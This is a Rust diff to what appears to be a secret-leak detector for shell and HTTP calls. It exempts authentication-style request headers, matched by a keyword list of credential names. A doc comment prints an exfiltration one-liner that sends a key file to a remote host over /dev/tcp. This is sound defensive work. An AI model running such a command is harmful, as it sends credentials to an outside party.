@@ -66,14 +66,26 @@ fn by_words(call: &Call, facts: &dyn Facts) -> Option<String> {
     if !speaks && !outward {
         return None;
     }
-    let signs_in = |role: Role| matches!(role, Role::Secret | Role::Header);
+    let signs_in = |role: Role, text: &str| match role {
+        Role::Secret => true,
+        Role::Header => text.split_once(':').is_none_or(|(name, _)| signs_in_by(name)),
+        _ => false,
+    };
     let words = call.words();
-    let inside = words.given(&call.argv).any(|(role, text)| !signs_in(role) && text.contains(SECRET));
+    let inside = words.given(&call.argv).any(|(role, text)| !signs_in(role, text) && text.contains(SECRET));
     // `Authorization:…` of a request that has such among its fields.
     let field = |text: &str| text.split_once(':').is_some_and(|(name, _)| name.contains("uthorization"));
     let item = words.given(&call.argv).any(|(role, text)| role == Role::Item && field(text));
     let line = entry.place == Where::Host && call.texts().any(|text| text.contains(SECRET));
     (inside && !item || line || sends_input(call, |c| c == SECRET)).then(|| "a secret".to_owned())
+}
+
+/// Lines of a request by which one signs in: `Authorization`, `X-Api-Key`, `PRIVATE-TOKEN`, `Cookie`.
+fn signs_in_by(name: &str) -> bool {
+    let lower = name.to_ascii_lowercase();
+    ["auth", "key", "token", "cookie", "secret", "credential", "password", "signature"]
+        .iter()
+        .any(|word| lower.contains(word))
 }
 
 /// `cat key > /dev/tcp/host/1`.
